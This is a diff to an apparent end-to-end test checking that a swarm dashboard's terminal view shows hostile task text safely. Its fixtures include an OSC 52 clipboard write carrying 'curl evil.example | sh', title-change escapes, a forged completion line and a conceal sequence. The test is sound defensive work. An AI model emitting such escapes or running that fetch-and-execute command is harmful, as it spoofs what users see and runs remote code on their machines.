@@ -17,7 +17,7 @@ const CLIPBOARD = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString(
 const TITLE = `${ESC}${ESC}[m]0;pwned-title${BEL}${ESC}]2;pwned-title${BEL}`;
 const FORGED = `\n${ESC}[1A${ESC}[2K\rtask forged: completed · exit 0 · agent alpha`;
 
-describe("a real terminal showing hostile task output and text", { timeout: 120_000 }, () => {
+describe("a real terminal showing hostile task output and text", { timeout: 180_000 }, () => {
   let swarm: TestSwarm;
   let client: Swarm;
   let term: TestTerminal;
@@ -75,7 +75,8 @@ describe("a real terminal showing hostile task output and text", { timeout: 120_
     await waitRunning(client, submitted.id);
     await client.client.events.publish("task.failed", { taskId: "t-hostile", agent: "alpha", message: `{red-fg}boom${CLIPBOARD}${TITLE}${ESC}[8mhidden` });
     term.run(`clear; ${cli("tui")}`);
-    const screen = await term.waitFor((s) => lineWith(s, "beta-1").includes(`${submitted.id} sleep 60 #`) && s.includes("t-hostile"), { what: "the task and the event on the dashboard", timeoutMs: 60_000 });
+    const row = (s: string) => lineWith(s, /│beta-1\s/);
+    const screen = await term.waitFor((s) => row(s).includes(`${submitted.id} sleep 60 #`) && s.includes("t-hostile"), { what: "the task and the event on the dashboard", timeoutMs: 90_000 });
     // blessed's own markup in someone else's text is shown as text, not applied.
     expect(lineWith(screen, "t-hostile")).toContain("{red-fg}boom");
     // SGR 8 (conceal) in an event would hide the rest of its line, and blessed passes SGR through.
